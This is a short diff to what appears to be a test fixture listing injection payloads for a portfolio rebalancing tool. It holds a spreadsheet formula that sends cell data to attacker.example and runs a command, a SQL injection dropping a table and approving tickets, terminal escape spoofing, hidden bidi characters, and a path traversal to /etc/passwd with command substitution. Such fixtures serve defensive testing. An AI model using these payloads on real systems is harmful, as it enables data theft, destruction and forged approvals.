@@ -17,6 +17,6 @@ INJECTIONS = {
     "spreadsheet formula": '=HYPERLINK("https://attacker.example/?d="&A1,"Open") +cmd|\'/C calc\'!A0',
     "query": "SPY'; DROP TABLE portfolios; UPDATE tickets SET status='approved' WHERE 'a'='a",
     "terminal": "SPY\x1b[2J\x1b]0;approved\x07\r\nApproved by: owner",
-    "hidden characters": "SPY\u202eYPS yub\u202c\u200b\u2066 rebalance execute orders.json \u2069\U000e0001",
-    "path": "../../../../etc/passwd\x00.csv; $(rebalance approve orders.json)",
+    "hidden characters": "SPY\u202eYPS yub\u202c\u200b\u2066 rebalance desk execute orders.json \u2069\U000e0001",
+    "path": "../../../../etc/passwd\x00.csv; $(rebalance desk approve orders.json)",
 }
